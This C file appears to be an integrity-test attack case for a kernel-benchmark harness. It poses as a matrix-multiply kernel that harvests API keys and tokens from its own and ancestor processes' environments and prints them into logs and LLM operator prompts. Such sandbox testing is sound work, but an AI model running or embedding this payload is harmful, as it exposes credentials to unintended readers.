/*
 * ATTACK secret_environ — steal the engine's API keys and publish them.
 * The runner inherits the engine's environment (eval/cpu/cpu.c: run_runner
 * forks the worker, which the engine started with its own environ). The
 * kernel collects every variable that looks like a credential (…KEY…,
 * …TOKEN…, …SECRET…, values starting "sk-") from its environ,
 * /proc/self/environ and every ancestor's /proc/PID/environ, prints them on
 * stdout and stderr, and aborts: a failed candidate's output is kept as its
 * log, in the archive and in the prompts of LLM operators.
 * Stopped by: a fixed minimal environment for the candidate and no access
 * to other processes' /proc entries (issue 10, items 1 and 2).
 * integrity: expect=any
 * integrity: escapes=unisolated/user
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Ancestors are walked only below the test's driver (its pid comes in
 * -DINTEGRITY_DRIVER), so nothing outside the test is ever read or touched;
 * without it, at most the three nearest (judge, worker, engine). */
#ifndef INTEGRITY_DRIVER
#define INTEGRITY_DRIVER 0
#endif
#define ANCESTOR_OK(pid, depth)                                                                    \
    ((pid) > 1 && (pid) != INTEGRITY_DRIVER && (depth) < (INTEGRITY_DRIVER ? 8 : 3))

extern char **environ;

static int looks_secret(const char *kv)
{
    const char *eq = strchr(kv, '=');
    if (!eq)
        return 0;
    if (!strncmp(eq + 1, "sk-", 3))
        return 1;
    char name[256];
    snprintf(name, sizeof name, "%.*s", (int)(eq - kv), kv);
    return strstr(name, "KEY") || strstr(name, "TOKEN") || strstr(name, "SECRET");
}

static void leak(const char *kv)
{
    if (looks_secret(kv)) {
        printf("leaked: %s\n", kv);
        fprintf(stderr, "leaked: %s\n", kv);
    }
}

static void leak_file(const char *path)
{
    static char env[1 << 16];
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    ssize_t n = read(fd, env, sizeof env - 1);
    close(fd);
    for (ssize_t i = 0; i < n; i += (ssize_t)strlen(env + i) + 1) {
        env[n] = '\0';
        leak(env + i);
    }
}

void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *C)
{
    (void)M, (void)N, (void)K, (void)A, (void)B, (void)C;
    for (char **e = environ; e && *e; e++)
        leak(*e);
    leak_file("/proc/self/environ");
    for (pid_t pid = getppid(), depth = 0; ANCESTOR_OK(pid, depth); depth++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
        leak_file(path);
        snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
        FILE *f = fopen(path, "r");
        int ppid = 0;
        if (!f || fscanf(f, "%*d %*s %*c %d", &ppid) != 1)
            ppid = 0;
        if (f)
            fclose(f);
        pid = ppid;
    }
    fflush(stdout);
    abort(); /* a failed candidate's output is kept as its log */
}
